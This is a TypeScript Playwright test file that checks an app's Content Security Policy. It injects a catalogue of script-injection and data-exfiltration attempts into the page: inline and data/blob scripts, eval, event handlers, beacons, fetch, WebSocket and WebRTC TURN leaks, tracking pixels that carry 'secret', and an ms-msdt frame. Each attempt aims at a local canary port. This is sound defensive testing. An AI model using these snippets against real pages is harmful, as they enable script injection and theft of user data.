/** What a script that got into the page would try, and the part of the policy that must refuse each attempt. */
import type { Page } from '@playwright/test'

export interface Ports {
  /** Where nobody may call; see canary.ts. */
  readonly tcp: number
  readonly udp: number
}

/** Each runs in the page, so none may use anything from this file. What comes to run adds to window.ran. */
type Attempt = readonly [name: string, refusedBy: string, run: (ports: Ports) => unknown]

declare global {
  interface Window {
    ran: string[]
    /** The parts of the policy that refused something, in order. */
    refused: string[]
    /** Adds an element to the page and returns it. */
    place: (tag: string, attributes: Record<string, string>, text?: string) => HTMLElement
  }
}

const scripts: readonly Attempt[] = [
  ['a script', 'script-src-elem', () => window.place('script', {}, 'window.ran.push("a script")')],
  [
    'a missing image',
    'script-src-attr',
    () => window.place('img', { src: 'missing.png', onerror: 'window.ran.push("onerror")' }),
  ],
  [
    'a click',
    'script-src-attr',
    () => window.place('button', { onclick: 'window.ran.push("onclick")' }).click(),
  ],
  // Later, because what Playwright calls may evaluate text where the page itself may not.
  ['eval', 'script-src', () => setTimeout(() => void window.eval('window.ran.push("eval")'))],
  [
    'a function from text',
    'script-src',
    () =>
      setTimeout(() => {
        Reflect.construct(Function, ['window.ran.push("Function")'])
      }),
  ],
  [
    'a timer with text',
    'script-src',
    () => void Reflect.apply(setTimeout, window, ['window.ran.push("timer")']),
  ],
  [
    'WebAssembly',
    'script-src',
    () =>
      setTimeout(() => {
        const smallest = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])
        WebAssembly.instantiate(smallest).then(
          () => window.ran.push('WebAssembly'),
          () => undefined,
        )
      }),
  ],
  [
    'a link that is a script',
    'script-src-elem',
    () => window.place('a', { href: 'javascript:window.ran.push("javascript")' }).click(),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    ({ tcp }) => window.place('script', { src: `http://127.0.0.1:${tcp}/x.js` }),
  ],
  [
    'a script from memory',
    'script-src-elem',
    () => {
      const src = URL.createObjectURL(new Blob(['window.ran.push("blob")']))
      window.place('script', { src })
    },
  ],
  [
    'a script in its address',
    'script-src-elem',
    () => window.place('script', { src: 'data:text/javascript,window.ran.push("data")' }),
  ],
  [
    'rules for reading ahead',
    'script-src-elem',
    ({ tcp }) => {
      const prefetch = [{ source: 'list', urls: [`http://127.0.0.1:${tcp}/ahead`] }]
      window.place('script', { type: 'speculationrules' }, JSON.stringify({ prefetch }))
    },
  ],
  [
    'a worker from memory',
    'worker-src',
    () => new Worker(URL.createObjectURL(new Blob(['close()']))),
  ],
  ['a worker in its address', 'worker-src', () => new SharedWorker('data:text/javascript,1')],
]

const messages: readonly Attempt[] = [
  [
    'a request',
    'connect-src',
    ({ tcp }) => void fetch(`http://127.0.0.1:${tcp}/`).catch(() => undefined),
  ],
  [
    'a request to the app’s own files',
    'connect-src',
    () =>
      void fetch('index.html').then(
        () => window.ran.push('fetch'),
        () => undefined,
      ),
  ],
  [
    'an old-fashioned request',
    'connect-src',
    ({ tcp }) => {
      const request = new XMLHttpRequest()
      request.open('POST', `http://127.0.0.1:${tcp}/`)
      request.send('secret')
    },
  ],
  [
    'a beacon',
    'connect-src',
    ({ tcp }) => navigator.sendBeacon(`http://127.0.0.1:${tcp}/`, 'secret'),
  ],
  ['a web socket', 'connect-src', ({ tcp }) => new WebSocket(`ws://127.0.0.1:${tcp}/`)],
  ['a stream of events', 'connect-src', ({ tcp }) => new EventSource(`http://127.0.0.1:${tcp}/`)],
  [
    'a transport',
    'connect-src',
    ({ udp }) => {
      const transport = new WebTransport(`https://127.0.0.1:${udp}/`)
      transport.ready.catch(() => undefined)
      transport.closed.catch(() => undefined)
    },
  ],
  [
    'a form',
    'form-action',
    ({ tcp }) => {
      const form = window.place('form', { action: `http://127.0.0.1:${tcp}/`, method: 'post' })
      if (form instanceof HTMLFormElement) form.submit()
    },
  ],
  [
    'another base for all addresses',
    'base-uri',
    ({ tcp }) => window.place('base', { href: `http://127.0.0.1:${tcp}/` }),
  ],
]

const things: readonly Attempt[] = [
  [
    'a picture from elsewhere',
    'img-src',
    ({ tcp }) => window.place('img', { src: `http://127.0.0.1:${tcp}/pixel.gif?name=secret` }),
  ],
  [
    'a picture in its address',
    'img-src',
    () => window.place('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }),
  ],
  [
    'a background from elsewhere',
    'img-src',
    ({ tcp }) => {
      document.body.style.backgroundImage = `url(http://127.0.0.1:${tcp}/pixel.gif)`
    },
  ],
  [
    'a style sheet from elsewhere',
    'style-src-elem',
    ({ tcp }) => window.place('link', { rel: 'stylesheet', href: `http://127.0.0.1:${tcp}/x.css` }),
  ],
  ['a style sheet', 'style-src-elem', () => window.place('style', {}, 'main { display: none }')],
  ['a style', 'style-src-attr', () => window.place('p', { style: 'display: none' })],
  [
    'a font from elsewhere',
    'font-src',
    ({ tcp }) =>
      void new FontFace('x', `url(http://127.0.0.1:${tcp}/x.woff2)`).load().catch(() => undefined),
  ],
  [
    'a film from elsewhere',
    'media-src',
    ({ tcp }) => window.place('video', { src: `http://127.0.0.1:${tcp}/x.mp4` }),
  ],
  [
    'something to plug in',
    'object-src',
    ({ tcp }) => window.place('object', { data: `http://127.0.0.1:${tcp}/x.pdf` }),
  ],
  [
    'a frame from elsewhere',
    'frame-src',
    ({ tcp }) => window.place('iframe', { src: `http://127.0.0.1:${tcp}/` }),
  ],
  [
    'a frame of the app itself',
    'frame-src',
    () => window.place('iframe', { src: 'app://care-cyber-check/index.html' }),
  ],
  [
    'a frame in its address',
    'frame-src',
    () => window.place('iframe', { src: 'data:text/html,x' }),
  ],
  ['a frame for a program', 'frame-src', () => window.place('iframe', { src: 'ms-msdt:/id x' })],
  // Refused inside the frame, where only the script itself could tell.
  [
    'a frame with a script',
    'nothing',
    () => window.place('iframe', { srcdoc: '<script>parent.ran.push("srcdoc")</script>' }),
  ],
]

export const attempts: readonly Attempt[] = [...scripts, ...messages, ...things]

/** Makes every attempt, one after the other; returns by which part of the policy each was refused. */
export async function attackPage(page: Page, ports: Ports): Promise<Record<string, string>> {
  await prepare(page)
  const refusals: Record<string, string> = {}
  for (const [name, , run] of attempts) {
    // Some attempts end in an error in the page, which is one way to be refused.
    await page.evaluate(run, ports).catch(() => undefined)
    refusals[name] = await page.evaluate(async () => {
      for (let waits = 0; waits < 100 && window.refused.length === 0; waits += 1) {
        await new Promise(resolve => setTimeout(resolve, 10))
      }
      return window.refused.splice(0).at(0) ?? 'nothing'
    })
  }
  return refusals
}

async function prepare(page: Page): Promise<void> {
  await page.evaluate(() => {
    window.ran = []
    window.refused = []
    window.place = (tag, attributes, text = '') => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.textContent = text
      document.body.append(element)
      return element
    }
    document.addEventListener('securitypolicyviolation', event => {
      window.refused.push(event.effectiveDirective)
    })
  })
}

/** In the page: what needs no permission of the policy, such as hints to connect early and calls between browsers. */
export async function hintAndCall({ tcp, udp }: Ports): Promise<void> {
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'icon']) {
    const link = document.createElement('link')
    link.rel = rel
    link.as = 'image'
    link.href = `http://127.0.0.1:${tcp}/${rel}`
    document.head.append(link)
  }
  // No policy for pages covers calls between browsers, which ask a server for the way first.
  const relay = { username: 'x', credential: 'x' }
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: `stun:127.0.0.1:${udp}` },
      { urls: `turn:127.0.0.1:${udp}`, ...relay },
      { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, ...relay },
    ],
  })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise(done => setTimeout(done, 1500))
  connection.close()
}
